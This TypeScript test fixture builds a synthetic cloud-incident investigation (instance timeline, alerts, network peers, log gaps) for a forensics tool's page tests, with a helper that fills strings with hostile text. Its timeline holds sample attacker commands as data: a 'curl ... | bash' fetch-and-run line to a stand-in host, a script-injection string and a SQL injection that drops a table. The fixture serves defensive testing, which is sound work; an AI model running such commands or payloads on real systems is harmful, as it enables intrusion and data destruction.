/** A rich investigation for the pages' tests, after the invented incident, and ways to fill it with hostile text. Synthetic throughout. */
import type { EvidenceRef, Investigation, Lane, Peer, TimelineEvent } from '../../../src/core/investigate/model.ts';

const HOST = 'i-0c0ffee0000000001';
const CLUSTERS = ['0309-220000-aaaa0001', '0310-085500-bbbb0002', '0310-060000-cccc0003'] as const;
const ROLE = `arn:aws:sts::111122223333:assumed-role/databricks-node/${HOST}`;

function at(text: string): number {
  return Date.parse(`2026-03-${text.replace(' ', 'T')}:00Z`);
}

function place(line: number): EvidenceRef {
  return {
    input: 'audit',
    uri: 'audit/workspaceId=3333333333333333/date=2026-03-10/auditlogs_0002.json',
    line,
    index: null,
    offset: line * 700,
  };
}

export function sampleEvent(lane: Lane, time: string, title: string, changes: Partial<TimelineEvent> = {}): TimelineEvent {
  return {
    time: at(time),
    end: null,
    lane,
    kind: 'something',
    title,
    level: null,
    outcome: 'succeeded',
    instanceId: HOST,
    clusterId: null,
    workspaceId: '3333333333333333',
    actor: null,
    sourceIp: null,
    command: null,
    details: {},
    count: 1,
    confidence: 'certain',
    basis: 'the record names the instance',
    evidence: [place(12)],
    ...changes,
  };
}

function peer(address: string, changes: Partial<Peer>): Peer {
  return {
    instanceId: HOST,
    interfaceId: 'eni-0a00000000000001a',
    address,
    direction: 'outbound',
    scope: 'external',
    awsService: null,
    ports: [{ protocol: 6, port: 443, bytes: 30_000_000 }],
    morePorts: 0,
    sent: { flows: 4, packets: 21_020, bytes: 30_005_000 },
    received: { flows: 4, packets: 21_020, bytes: 61_000 },
    rejected: { flows: 0, packets: 0, bytes: 0 },
    first: at('10 09:42'),
    last: at('10 16:05'),
    confidence: 'certain',
    basis: 'interface of the instance',
    evidence: [{ ...place(9), input: 'flow-logs' }],
    ...changes,
  };
}

const suspect = { actor: 'dana@example.com', sourceIp: '198.51.100.23', clusterId: CLUSTERS[1] };

/** Every lane, every kind of entity, gaps, follow-ups, something left out. */
export function sampleInvestigation(changes: Partial<Investigation> = {}): Investigation {
  const instance = { kind: 'instance', value: HOST } as const;
  const member = (value: string, from: string, to: string): Investigation['relations'][number] => ({
    kind: 'member-of',
    from: instance,
    to: { kind: 'cluster', value },
    interval: { from: at(from), to: at(to) },
    confidence: 'certain',
    basis: 'tag ClusterId',
    evidence: [{ ...place(3), input: 'cloudtrail', line: null, index: 2 }],
  });
  const run = (time: string, command: string): TimelineEvent =>
    sampleEvent('command', time, 'notebook command', { kind: 'run-command', ...suspect, command });
  return {
    schemaVersion: 1,
    starts: [{ kind: 'instance', value: HOST }],
    window: { from: at('09 22:00'), to: at('10 16:05') },
    inputs: [
      {
        role: 'audit',
        paths: ['fixtures/incident/audit'],
        artifacts: { read: 2, excluded: 0, failed: 0 },
        records: { read: 160, used: 140, rejected: 0, unrecognised: 0 },
        problems: {},
        complete: true,
        window: { from: null, to: null },
        seen: { from: at('09 22:04'), to: at('10 16:00') },
      },
      {
        role: 'cloudtrail',
        paths: ['fixtures/incident/cloudtrail'],
        artifacts: { read: 9, excluded: 1, failed: 1 },
        records: { read: 39, used: 24, rejected: 1, unrecognised: 0 },
        problems: { 'syntax-error': 1 } as Investigation['inputs'][number]['problems'],
        complete: false,
        window: { from: null, to: null },
        seen: { from: at('09 21:30'), to: at('10 18:00') },
      },
    ],
    complete: false,
    entities: [
      {
        ...instance,
        start: true,
        interval: { from: at('09 22:00'), to: at('10 16:00') },
        attributes: { vpcId: ['vpc-0a0000000000000aa'], imageId: ['ami-0f00000000000000f'], 'tag:Vendor': ['Databricks'] },
      },
      ...CLUSTERS.map((value) => ({ kind: 'cluster' as const, value, start: false, interval: { from: null, to: null }, attributes: {} })),
      {
        kind: 'principal',
        value: 'dana@example.com',
        start: false,
        interval: { from: null, to: null },
        attributes: { sourceIp: ['198.51.100.23'] },
      },
    ],
    relations: [
      member(CLUSTERS[0], '09 22:05', '10 08:50'),
      member(CLUSTERS[1], '10 09:00', '10 12:30'),
      member(CLUSTERS[2], '10 12:40', '10 16:00'),
    ],
    timeline: [
      sampleEvent('lifecycle', '09 22:00', 'RunInstances launched it', { kind: 'launch' }),
      sampleEvent('sensor', '09 22:10', 'heartbeats', { kind: 'heartbeats', end: at('10 10:20'), count: 74 }),
      sampleEvent('cluster', '10 08:55', 'clusters/create scratch', suspect),
      run('10 09:10', '%sh\necho \u001b[31mowned\u001b[0m; curl http://192.0.2.66/x | bash'),
      sampleEvent('access', '10 09:15', 'ssh login as ubuntu', { ...suspect, kind: 'ssh-login' }),
      sampleEvent('alert', '10 09:16', 'Suspicious Interactive Shell', {
        level: 'high',
        details: { program: '/usr/bin/bash', args: '-c id' },
      }),
      run('10 09:20', 'displayHTML("<script>document.title=\'owned\'</script>")'),
      sampleEvent('alert', '10 09:25', 'Privileged Container Launched', { level: 'high' }),
      sampleEvent('by-instance', '10 09:30', 'GetCallerIdentity', { actor: ROLE, sourceIp: '203.0.113.10' }),
      sampleEvent('alert', '10 09:41', 'Userland Container Escape', { level: 'critical' }),
      sampleEvent('network', '10 09:42', 'first contact with 192.0.2.66', { kind: 'first-contact' }),
      run('10 09:45', "SELECT * FROM t WHERE name = '' OR '1'='1'; DROP TABLE t; --"),
      sampleEvent('by-instance', '10 09:50', 'RunInstances', { actor: ROLE, sourceIp: '203.0.113.10', outcome: 'failed' }),
      sampleEvent('alert', '10 10:15', 'Kernel Module Loaded', { level: 'high' }),
      sampleEvent('sensor', '10 10:20', 'no heartbeat', { kind: 'heartbeat-gap', end: at('10 11:20') }),
      sampleEvent('alert', '10 10:20', 'User Command Logging Evasion', { level: 'medium' }),
      sampleEvent('by-instance', '10 10:31', 'ListBuckets', {
        actor: ROLE,
        sourceIp: '192.0.2.66',
        confidence: 'likely',
        basis: 'role session',
      }),
      sampleEvent('by-instance', '10 10:33', 'GetSecretValue', { actor: ROLE, sourceIp: '192.0.2.66', outcome: 'failed' }),
      sampleEvent('by-instance', '10 10:35', 'AssumeRole break-glass-admin', { actor: ROLE, sourceIp: '192.0.2.66' }),
      sampleEvent('about-instance', '10 11:06', 'ModifyInstanceAttribute', { outcome: 'failed' }),
      sampleEvent('sensor', '10 11:20', 'heartbeats', { kind: 'heartbeats', end: at('10 16:00'), count: 29 }),
      sampleEvent('sensor', '10 11:40', 'virus found: Unix.Synthetic.Miner-1', { level: 'high' }),
      sampleEvent('lifecycle', '10 16:00', 'TerminateInstances', { kind: 'termination' }),
      sampleEvent('about-instance', '10 16:00', 'a call without a time', { time: null }),
    ],
    peers: [
      peer('192.0.2.66', {}),
      peer('10.20.1.11', {
        scope: 'internal',
        ports: [{ protocol: 6, port: 7077, bytes: 2400 }],
        sent: { flows: 2, packets: 14, bytes: 1400 },
      }),
      peer('198.51.100.200', { awsService: 'S3', confidence: 'likely', basis: 'address of the interface' }),
      peer('203.0.113.200', {
        direction: 'inbound',
        ports: [{ protocol: 6, port: 22, bytes: 40 }],
        sent: { flows: 0, packets: 0, bytes: 0 },
        received: { flows: 0, packets: 0, bytes: 0 },
        rejected: { flows: 2, packets: 2, bytes: 80 },
      }),
    ],
    gaps: [
      {
        code: 'verbose-off',
        sentence: 'Verbose audit logs were off: commands of this time are not in the log.',
        about: null,
        interval: { from: at('10 10:10'), to: at('10 10:50') },
        searched: [{ input: 'audit', from: at('09 22:00'), to: at('10 16:00'), records: 160 }],
      },
      {
        code: 'heartbeat-gap',
        sentence: 'The sensor was silent while the instance ran.',
        about: instance,
        interval: { from: at('10 10:20'), to: at('10 11:20') },
        searched: [],
      },
    ],
    followUps: [
      {
        kind: 'query',
        tool: 'athena',
        title: 'Flow logs',
        why: 'SKIPDATA',
        text: "SELECT *\nFROM flow_logs\nWHERE interface_id = 'eni-0a'",
      },
      {
        kind: 'preserve',
        tool: 'aws-cli',
        title: 'Keep it',
        why: 'before it ends',
        text: `aws ec2 describe-instances --instance-ids '${HOST}'`,
      },
    ],
    omitted: { entities: 0, relations: 0, timeline: 3, peers: 0 },
    ...changes,
  };
}

/** What decides about shape; all other strings are replaced. */
const STRUCTURE = new Set(['lane', 'kind', 'level', 'scope', 'outcome']);

/** The same shape with the text in every string and every name of a detail or attribute. */
export function withText<T>(value: T, text: string, key = ''): T {
  if (typeof value === 'string') return (STRUCTURE.has(key) ? value : text) as T;
  if (Array.isArray(value)) return value.map((item: unknown) => withText(item, text, key)) as T;
  if (typeof value !== 'object' || value === null) return value;
  const named = key === 'details' || key === 'attributes';
  return Object.fromEntries(Object.entries(value).map(([name, item]) => [named ? text : name, withText(item as unknown, text, name)])) as T;
}
